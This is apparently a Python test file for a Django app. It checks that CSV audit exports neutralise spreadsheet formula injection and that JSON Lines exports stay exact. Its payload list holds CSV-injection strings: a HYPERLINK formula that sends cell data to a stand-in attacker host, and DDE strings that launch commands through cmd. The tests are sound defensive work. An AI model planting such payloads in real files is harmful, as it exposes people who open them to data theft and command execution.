"""CSV exports neutralise spreadsheet formulas (OWASP "CSV injection"); JSON Lines stays exact.

Red-team finding: a viewer named an API token ``=HYPERLINK("https://evil.example/?"&A1)`` and the
auditor's CSV export carried it as a live formula; incident titles and threshold names too."""

import csv
import io
import json

import pytest
from django.utils import timezone

from accounts import services as account_services
from common.spreadsheet import neutralise
from monitoring import services as monitoring_services

PAYLOADS = [
    '=HYPERLINK("https://evil.example/?"&A1)',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_formula_prefix_is_neutralised(payload):
    assert neutralise(payload) == "'" + payload


@pytest.mark.parametrize("value", ["credit model", "1.5", 42, None, "", "a=b", "'quoted"])
def test_ordinary_values_are_left_alone(value):
    assert neutralise(value) == value


def _export(client, fmt):
    response = client.get(f"/audit/export.{fmt}")
    assert response.status_code == 200
    return b"".join(response.streaming_content).decode()


@pytest.mark.django_db
def test_audit_csv_export_carries_no_live_formula_and_jsonl_is_exact(
    client_for, personas, owned_model
):
    for payload in PAYLOADS[:4]:
        account_services.api_token_create(
            actor=personas.viewer,
            user=personas.viewer,
            name=payload,
            scopes=["catalog:read"],
            expires_in_days=30,
        )
    monitoring_services.incident_register(
        actor=personas.owner,
        model_service=owned_model,
        title=PAYLOADS[0],
        description="x",
        severity="low",
        occurred_at=timezone.now(),
        aware_at=timezone.now(),
    )
    auditor = client_for(personas.auditor)

    cells = [cell for row in csv.reader(io.StringIO(_export(auditor, "csv"))) for cell in row]
    live = [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert live == []
    assert sum(cell.startswith("'=HYPERLINK") for cell in cells) >= 2  # token and incident

    labels = [json.loads(line)["target_label"] for line in _export(auditor, "jsonl").splitlines()]
    assert PAYLOADS[0] in labels  # JSON Lines keeps the text exact (it is hash-verified)
